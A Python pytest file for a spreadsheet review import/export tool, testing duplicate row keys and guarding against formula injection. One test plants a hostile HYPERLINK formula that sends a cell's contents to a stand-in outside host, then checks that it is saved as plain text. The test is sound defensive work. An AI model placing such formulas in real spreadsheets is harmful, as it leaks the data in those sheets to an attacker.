"""Review findings on the Excel round-trip: two rows with one row key (e.g. a plan whose district
was not found, imported as DOCX and as PDF: both current, same keys)."""

import pandas as pd
from openpyxl import load_workbook

from reja import corrections as c
from reja.review.excel import apply_workbook, export_workbook


def _twins(items: pd.DataFrame) -> pd.DataFrame:
    twin = items[items["row_key"] == "k-12"].copy()
    twin["document_id"] = "d2"
    twin["source_file"] = "izboskan_2025.pdf"
    twin["fact_value"] = 5.0  # the PDF's reading differs from the DOCX's (None)
    return pd.concat([items, twin], ignore_index=True)


def _set(path, excel_row, column, value):
    wb = load_workbook(path)
    ws = wb["Review"]
    headers = [cell.value for cell in ws[1]]
    ws.cell(row=excel_row, column=headers.index(column) + 1).value = value
    wb.save(path)


def test_untouched_twin_rows_give_no_correction(items, tmp_path):
    items = _twins(items)
    path, db = tmp_path / "review.xlsx", tmp_path / "store.sqlite"
    assert export_workbook(items, path) == 3
    result = apply_workbook(path, items, db, who="Dilnoza")
    assert result.applied == 0 and result.rejected == []
    assert c.all_corrections(db) == []


def test_an_edit_of_one_twin_is_read_as_that_edit_only(items, tmp_path):
    items = _twins(items)
    path, db = tmp_path / "review.xlsx", tmp_path / "store.sqlite"
    export_workbook(items, path)
    keys = [r[0].value for r in load_workbook(path)["Review"].iter_rows(min_row=2)]
    assert keys == ["k-12", "k-30", "k-12"]
    _set(path, 4, "plan_value", 99)  # the PDF twin, 4th line of the sheet
    result = apply_workbook(path, items, db, who="Dilnoza")
    assert result.rejected == []
    saved = [(s.row_key, s.field, s.value_after) for s in c.all_corrections(db)]
    assert saved == [("k-12", "plan_value", "99")]


def test_plan_text_in_the_review_workbook_is_never_a_formula(items, tmp_path):
    """openpyxl stores any string starting with '=' as a formula: a plan cell must reach the clerk's
    Excel as text, and an untouched row must still give no correction."""
    items = items.copy()
    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"ok")'
    items.loc[items["row_key"] == "k-12", "text"] = hostile
    items.loc[items["row_key"] == "k-12", "unit"] = "=2+2"
    path, db = tmp_path / "review.xlsx", tmp_path / "store.sqlite"
    export_workbook(items, path)
    wb = load_workbook(path)
    for sheet in ("Review", "Exported"):
        cells = {c.value: c.data_type for row in wb[sheet].iter_rows(min_row=2) for c in row if c.value}
        assert cells[hostile] == "s" and cells["=2+2"] == "s", sheet
    result = apply_workbook(path, items, db, who="Dilnoza")
    assert result.applied == 0 and result.rejected == []
